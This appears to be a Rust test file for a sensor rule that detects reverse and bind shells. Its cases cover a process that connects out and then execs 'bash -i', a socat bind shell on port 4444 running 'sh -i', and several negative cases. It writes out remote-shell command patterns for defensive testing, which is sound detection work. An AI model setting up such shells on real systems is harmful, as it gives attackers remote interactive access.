//! The shapes that the rule is about, and the nearest ones that it is not about.

use super::{Case, case};
use crate::actor::step::{Accept, Step, connect, exec, fork, report};
use crate::expect::Expect;
use crate::lab::Lab;
use anyhow::Result;
use std::net::SocketAddr;

pub(super) const CASES: &[Case] = &[
    case("a shell connects and executes an interactive shell", connects_and_executes),
    case("socat accepts and executes an interactive shell", accepts_and_executes),
    case("a shell to an excluded network is no alert", excluded),
    case("the connection is of one process, the shell of another: no alert", other_process),
    case("a second shell without a new connection is no second alert", consumed),
];

/// Stage 1 and stage 2 by one process: one alert, about that process.
fn connects_and_executes(lab: &Lab) -> Result<()> {
    let far = lab.listen(lab.remote())?;
    let bash = lab.program("bash")?;
    let mut shell = lab.play(&bash, &["bash"], vec![connect(far.address), Step::Stdio, exec(&bash, &["bash", "-i"])])?;
    let (_connection, near) = far.accept()?;
    let pid = shell.reached("end")?.pid;
    let expect = Expect::alert(pid, &bash, &["bash", "-i"]).egress(near, far.address);
    lab.expect(&[expect.parent(std::process::id(), "sensor-tests")])
}

/// The same on the accepting side: the source is the peer, the destination is the own address.
fn accepts_and_executes(lab: &Lab) -> Result<()> {
    let (socat, sh) = (lab.program("socat")?, lab.program("sh")?);
    let at = SocketAddr::new(lab.local(), 4444);
    let steps = vec![Step::Listen(at), Step::Accept(Accept::Four), Step::Stdio, exec(&sh, &["sh", "-i"])];
    let mut shell = lab.play(&socat, &["socat", "TCP-LISTEN:4444", "EXEC:sh -i,nofork"], steps)?;
    let connection = lab.connect(lab.remote(), at)?;
    let pid = shell.reached("end")?.pid;
    lab.expect(&[Expect::alert(pid, &sh, &["sh", "-i"]).ingress(connection.local_addr()?, at)])
}

/// 127.0.0.0/8 never counts.
fn excluded(lab: &Lab) -> Result<()> {
    let far = lab.listen("127.0.0.1".parse()?)?;
    let bash = lab.program("bash")?;
    let mut shell = lab.play(&bash, &["bash"], vec![connect(far.address), exec(&bash, &["bash", "-i"])])?;
    shell.reached("end")?;
    lab.expect_none()
}

/// The rule is by process, and a fork is another process.
fn other_process(lab: &Lab) -> Result<()> {
    let far = lab.listen(lab.remote())?;
    let bash = lab.program("bash")?;
    let child = fork(vec![exec(&bash, &["bash", "-i"])]);
    let mut shell = lab.play(&bash, &["bash"], vec![connect(far.address), child])?;
    shell.reached("end")?;
    lab.expect_none()
}

/// A connection serves one exec.
fn consumed(lab: &Lab) -> Result<()> {
    let far = lab.listen(lab.remote())?;
    let bash = lab.program("bash")?;
    let again = vec![report("first"), Step::Wait, exec(&bash, &["bash", "-i", "again"])];
    let first = crate::actor::step::exec_then(&bash, &["bash", "-i"], again);
    let mut shell = lab.play(&bash, &["bash"], vec![connect(far.address), first])?;
    let (_connection, near) = far.accept()?;
    let pid = shell.reached("first")?.pid;
    shell.go()?;
    shell.reached("end")?;
    lab.expect(&[Expect::alert(pid, &bash, &["bash", "-i"]).egress(near, far.address)])
}
